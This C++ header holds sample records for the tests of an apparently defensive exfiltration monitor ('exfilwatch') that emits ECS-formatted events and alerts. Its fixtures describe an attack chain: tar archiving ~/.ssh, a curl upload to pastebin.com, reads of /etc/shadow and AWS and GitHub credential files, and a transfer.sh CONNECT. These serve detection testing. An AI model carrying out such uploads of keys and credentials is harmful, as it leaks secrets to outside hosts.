// Sample records of every kind, shared by the ECS tests (which also write them out for the
// schema validator) and the replay round-trip tests.
#pragma once

#include <string>
#include <vector>

#include "events.hpp"
#include "output/ecs.hpp"

namespace exfilwatch::samples {

inline constexpr TimeNs t0 = 1795920551ULL * 1'000'000'000ULL + 123456789ULL;  // 2026-11-29T02:49:11.123456789Z

inline ProcessRef process(std::uint32_t pid = 4242)
{
    ProcessRef p;
    p.pid = pid;
    p.entity_id = "b1946ac9-4242-1795920500000000000";
    p.ppid = 4200;
    p.parent_entity_id = "b1946ac9-4200-1795920400000000000";
    p.pgid = 4242;
    p.sid = 4000;
    p.uid = 1000;
    p.executable = "/usr/bin/curl";
    p.name = "curl";
    p.args = {"curl", "-T", "-", "https://pastebin.com:8443/", "-o", "caf\xC3\xA9 \"quoted\"\n"};
    p.args_truncated = false;
    p.has_tty = true;
    p.cgroup_id = 12345;
    p.container_id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    p.pod_uid = "6b8d7e3c-1111-2222-3333-444455556666";
    p.start_time = t0 - 5'000'000'000ULL;
    return p;
}

// A process that exercises the corners: non-UTF-8 bytes, no container, empty fields.
inline ProcessRef odd_process()
{
    ProcessRef p;
    p.pid = 7;
    p.entity_id = "e-7";
    p.name = "t\xFFol";
    p.executable = "/tmp/\xC0\xAF\x01tool";
    p.args = {"t\xFFol", "", "--password", "hunter2", std::string("nul\0byte", 8)};
    p.args_truncated = true;
    return p;
}

inline std::vector<Event> events()
{
    std::vector<Event> out;
    out.push_back(ExecEvent{t0, process()});
    out.push_back(ExecEvent{t0 + 1, odd_process()});
    out.push_back(ForkEvent{t0 + 2, process(4243)});
    out.push_back(ExitEvent{t0 + 3, process(), 130});
    out.push_back(ExitEvent{t0 + 4, odd_process(), -1});
    out.push_back(
        FileOpenEvent{t0 + 5, process(), "/home/alice/.ssh/id_ed25519", ".ssh/id_ed25519", 3, 0x80000, 1311, 2049, 0});
    out.push_back(FileOpenEvent{t0 + 6, process(), "/etc/shadow", "/etc/shadow", -1, 0, 0, 0, 13});
    out.push_back(FileOpenEvent{t0 + 7, odd_process(), "/x\xFF", "", -1, 0x241, 0, 0, 4000});
    out.push_back(
        FileSummaryEvent{t0 + 8, process(), "/home/alice/.aws/credentials", 99, 2049, 4096, 8192, true, t0 + 7});
    out.push_back(ConnectEvent{
        t0 + 9, process(), {77}, Transport::tcp, false, {"10.0.0.2", 40000}, {"127.0.0.1", 8443}, "pastebin.com", 555});
    out.push_back(ConnectEvent{t0 + 10,
                               process(),
                               {18446744073709551615ULL},
                               Transport::udp,
                               true,
                               {"", 0},
                               {"2001:db8::1", 53},
                               "",
                               4242,
                               true});
    out.push_back(
        TlsClientHelloEvent{t0 + 11, process(), {77}, {"127.0.0.1", 8443}, "pastebin.com", {"h2", "http/1.1"}, 0x0304});
    out.push_back(TlsClientHelloEvent{t0 + 12, process(), {78}, {"", 0}, "", {}, 0x7f1c});
    out.push_back(DnsAnswerEvent{t0 + 13,
                                 process(),
                                 {79},
                                 "www.pastebin.com",
                                 {"pastebin.com", "cdn.example.net"},
                                 {"104.20.1.1", "2606:4700::6812:1"}});
    out.push_back(DnsAnswerEvent{t0 + 14, process(), {80}, "nx.example", {}, {}});
    out.push_back(
        HttpRequestEvent{t0 + 15, process(), {81}, {"127.0.0.1", 8080}, "PUT", "pastebin.com", "/api/upload", ""});
    out.push_back(HttpRequestEvent{
        t0 + 16, process(), {82}, {"127.0.0.1", 3128}, "CONNECT", "transfer.sh", "", "transfer.sh:443"});
    out.push_back(FlowSummaryEvent{t0 + 17,
                                   process(),
                                   {77},
                                   Transport::tcp,
                                   {"10.0.0.2", 40000},
                                   {"127.0.0.1", 8443},
                                   "pastebin.com",
                                   "sni",
                                   1048576,
                                   512,
                                   true,
                                   555,
                                   false,
                                   1048576,
                                   512});
    out.push_back(FlowSummaryEvent{
        t0 + 18, odd_process(), {83}, Transport::udp, {}, {"::1", 53}, "", "", 0, 0, false, 4242, true});
    out.push_back(ObjectIoEvent{t0 + 19, process(), ObjectKind::pipe, 180332, 0, IoDirection::write, 1, 4096});
    out.push_back(ObjectIoEvent{t0 + 20, odd_process(), ObjectKind::fifo, 7, 2049, IoDirection::read, 0, 1});
    out.push_back(ObjectIoEvent{t0 + 21, process(), ObjectKind::unix_socket, 99, 0, IoDirection::read, 5, 17});
    out.push_back(ObjectIoEvent{t0 + 22, process(), ObjectKind::loopback_socket, 18446744073709551615ULL, 0,
                                IoDirection::write, -1, 123456789012ULL});
    ObjectIoEvent memory{t0 + 22, odd_process(), ObjectKind::process_memory, 4321, 0, IoDirection::read, -1, 4096};
    memory.peer_pid = 4321;
    memory.peer_entity_id = process(4321).entity_id;
    out.push_back(memory);
    ObjectIoEvent environ_read{t0 + 23, odd_process(), ObjectKind::process_environ, 4321, 0, IoDirection::read,
                               -1,      1877};
    environ_read.peer_pid = 4321;
    environ_read.peer_entity_id = process(4321).entity_id;
    out.push_back(environ_read);
    out.push_back(
        ObjectIoEvent{t0 + 23, process(), ObjectKind::shared_memory, 332280, 2049, IoDirection::write, -1, 27028});
    // A pipeline stage: fd 0 and fd 1 are pipes.
    ProcessRef stage = process(4244);
    stage.stdin_pipe = 180332;
    stage.stdout_pipe = 18446744073709551615ULL;
    stage.stdout_kind = StdoutKind::pipe;
    out.push_back(ExecEvent{t0 + 23, stage});
    stage.stdin_pipe = 0;
    stage.stdout_pipe = 0;
    stage.stdout_kind = StdoutKind::file;
    out.push_back(ForkEvent{t0 + 24, stage});
    ContentScanEvent use{t0 + 25, process(), FlowKey{0xdeadbeefcafeULL}, "openssl", 0, 310, 310, true,
                         19,      0,         {"authorization"},          {}};
    use.matches.push_back(
        {"/home/dev/.config/gh/hosts.yml", 65024, 11028659, "raw", "auth-header", "authorization", {}, "named"});
    // A webhook's token in its own URL's path, a bot token in a form's credential field.
    use.matches.push_back({"/home/dev/app/.env", 65024, 11028660, "raw", "request-line", {}, {}, "named"});
    use.matches.push_back({"/home/dev/app/.env", 65024, 11028660, "url", "body", "token", {}, "named"});
    out.push_back(use);
    ContentScanEvent leak{t0 + 26, odd_process(), FlowKey{42}, "gnutls", 310, 16384, 4096, false, 16384, 77, {}, {}};
    leak.matches.push_back({"/home/dev/.ssh/id_ed25519", 1, 2, "base64", "body", {}, "signing-key"});
    leak.matches.push_back({"/home/dev/.aws/credentials", 1, 6, "raw", "auth-header", "authorization", "signing-key"});
    leak.matches.push_back(
        {"/home/dev/.config/gh/hosts.yml", 1, 5, "base64", "auth-header", "authorization", {}, "foreign"});
    leak.matches.push_back({"/home/dev/.netrc", 1, 3, "url", "request-line", {}});
    out.push_back(leak);
    // A command line's scan: no flow, the role of each argument that carries a secret.
    ContentScanEvent argv{t0 + 27, process(), FlowKey{}, "argv", 0, 131, 131, true, 0, 0, {}, {}};
    argv.matches.push_back({"/home/dev/.aws/credentials", 1, 4, "raw", "argument", "-f"});
    argv.matches.push_back({"/home/dev/.config/gh/hosts.yml", 1, 5, "raw", "auth-argument", "authorization"});
    out.push_back(argv);
    return out;
}

inline Alert alert()
{
    Alert a;
    a.time = t0 + 100;
    a.risk_score = 87;
    a.rule_name = "sensitive-file-to-paste-site";
    a.reason = "curl uploaded 1.0 MiB to pastebin.com after tar read ~/.ssh/id_ed25519";
    a.technique_id = "T1567";
    a.subtechnique_id = "T1567.003";
    a.category = "paste";
    a.process = process();
    ProcessRef tar = process(4241);
    tar.name = "tar";
    tar.executable = "/usr/bin/tar";
    tar.args = {"tar", "czf", "-", "/home/alice/.ssh"};
    ProcessRef shell = odd_process();
    a.chain = {shell, tar, process()};
    a.destination = {"127.0.0.1", 8443};
    a.destination_domain = "pastebin.com";
    a.bytes_out = 1048576;
    a.bytes_in = 512;
    a.files = {{"/home/alice/.ssh/id_ed25519", "ssh-key", 411}, {"/tmp/x.tgz", "", 1048576}};
    a.signals = {{"sensitive-read", 40, "tar read /home/alice/.ssh/id_ed25519 (ssh-key)"},
                 {"paste-destination", 30, "SNI pastebin.com"},
                 {"volume", 17, "1048576 bytes out"}};
    return a;
}

// A later alert of the same incident with a higher score (event.type [info, change]).
inline Alert incident_update()
{
    Alert a = alert();
    a.time += 1'000'000'000ULL;
    a.risk_score = 95;
    a.incident_id = "b1946ac9-4241-1795920500000000000/pastebin.com";
    a.incident_update = true;
    return a;
}

inline BlindSpot blind_spot()
{
    BlindSpot b;
    b.time = t0 + 200;
    b.cause = "ringbuf_full";
    b.lost = 906687;
    b.detail = "906687 records dropped (ring buffer full) while 2 lineages held sensitive data";
    ProcessRef shell = odd_process();
    b.processes = {process(), shell};
    return b;
}

// A process whose argv alone passes 16 KiB once encoded (multi-byte characters at every cut).
inline ProcessRef oversized_process()
{
    ProcessRef p = process();
    p.args = {"sh", "-c"};
    for (int i = 0; i < 40; ++i) p.args.push_back(std::string(300, 'a') + "\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80");
    p.args_truncated = true;
    return p;
}

// An alert with a long chain, long evidence and many files: over 16 KiB before truncation.
inline Alert oversized_alert()
{
    Alert a = alert();
    for (int i = 0; i < 60; ++i) {
        ProcessRef hop = process(static_cast<std::uint32_t>(5000 + i));
        hop.args = {"bash", "-c", std::string(500, 'x') + " \xE2\x82\xAC"};
        a.chain.push_back(hop);
        a.files.push_back({"/home/alice/.ssh/key-" + std::to_string(i) + std::string(200, 'k'), "ssh-key", 411});
    }
    a.signals.push_back({"staging", 10, std::string(8000, 'e') + "\xF0\x9F\x98\x80"});
    return a;
}

inline output::MonitorState started()
{
    output::MonitorState s;
    s.time = t0 - 1'000'000'000ULL;
    s.action = output::StateAction::started;
    s.version = "0.1.0";
    s.hooks = {{"tp_btf/sched_process_exec", true, ""},
               {"uprobe/libssl.so.3:SSL_write", false, "libssl.so.3 not found"}};
    s.rules_source = "built-in";
    s.events = "all";
    s.mode = "run";
    s.processes_scanned = 312;
    s.capabilities = {"cap_sys_ptrace"};
    return s;
}

inline output::MonitorState rules_reloaded()
{
    output::MonitorState s;
    s.time = t0 + 700;
    s.action = output::StateAction::rules_reloaded;
    s.version = "0.1.0";
    s.mode = "run";
    s.rules_source = "/etc/exfilwatch/rules.yaml";
    return s;
}

inline output::MonitorState stopped()
{
    output::MonitorState s;
    s.time = t0 + 1'000'000'000ULL;
    s.action = output::StateAction::stopped;
    s.version = "0.1.0";
    s.mode = "run";
    s.reason = "SIGINT";
    return s;
}

inline output::Metrics metrics()
{
    return {t0 + 500,
            {{"events.exec", 12},
             {"kernel.drops.ringbuf_full", 0},
             {"processes.live", 310},
             {"alerts", 1},
             {"output.dropped_lines", 0}}};
}

}  // namespace exfilwatch::samples
